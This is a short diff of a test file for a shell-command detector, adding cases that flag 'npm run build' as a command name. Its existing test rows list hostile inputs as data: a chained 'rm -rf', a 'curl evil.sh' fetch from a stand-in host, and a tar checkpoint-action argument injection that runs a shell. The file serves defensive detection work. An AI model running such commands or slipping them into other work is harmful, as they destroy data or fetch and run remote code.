@@ -50,6 +50,8 @@ describe('detectShellCommand: flags input that changes syntax', () => {
     ['ls > /tmp/out', '> /tmp/out', 'shell_metachar'],
     ['ls #; rm -rf', '#; rm', 'shell_metachar'],
     ['whoami', 'whoami', 'command_name'],
+    ['npm run build', 'npm run build', 'command_name'],
+    ['cd /app && npm run build', 'npm run build', 'command_name'],
     ['/usr/bin/id -a', '/usr/bin/id', 'command_name'],
     ['ls; curl evil.sh', 'curl', 'command_name'],
     ['tar -cf out.tar --checkpoint-action=exec=sh x', '--checkpoint-action=exec=sh', 'argument_injection'],
